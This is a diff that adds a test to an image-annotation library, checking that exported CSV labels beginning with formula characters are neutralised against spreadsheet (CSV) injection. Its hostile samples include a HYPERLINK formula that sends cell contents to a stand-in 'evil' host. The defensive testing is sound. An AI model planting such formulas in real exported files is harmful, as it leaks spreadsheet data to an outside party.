@@ -307,3 +307,27 @@ def test_zipped_annotations_skip_members_outside_the_archive(tmp_path):
         zf.writestr("../b.txt", "0 0.5 0.5 0.2 0.2\n")
     report = read_annotations(archive, "yolo", folder_resolver(IMAGES))
     assert report.rows == 1  # only the member inside the archive was read
+
+
+def test_exported_text_cells_cannot_run_as_spreadsheet_formulas(tmp_path):
+    """OWASP CSV injection: a label or id beginning with = + - @ tab CR is written with a leading
+    quote, numbers are not, and our own readers get the original text back."""
+    from annotations.cells import neutralise, restore
+
+    hostile = ['=HYPERLINK("http://evil/?"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "'quoted"]
+    for text in hostile:
+        assert neutralise(text) == "'" + text and restore(neutralise(text)) == text
+    assert neutralise(-0.5) == -0.5 and neutralise("lesion") == "lesion" and restore("'plain") == "'plain"
+    report = read_annotations(_plain_csv(tmp_path, 'a.png,1,1,10,5,=HYPERLINK("http://evil")\n'), "csv", folder_resolver(IMAGES))
+    assert report.ok and report.annotations[0].label == '=HYPERLINK("http://evil")'
+    out = write_annotations(tmp_path / "out.csv", "csv", to_export(report, IMAGES))
+    written = out.read_text()
+    assert "'=HYPERLINK" in written and ",=HYPERLINK" not in written
+    again = read_annotations(out, "csv", folder_resolver(IMAGES))
+    assert again.annotations[0].label == '=HYPERLINK("http://evil")'
+
+
+def _plain_csv(tmp_path, body: str):
+    path = tmp_path / "in.csv"
+    path.write_text("image,x0,y0,x1,y1,label\n" + body)
+    return path
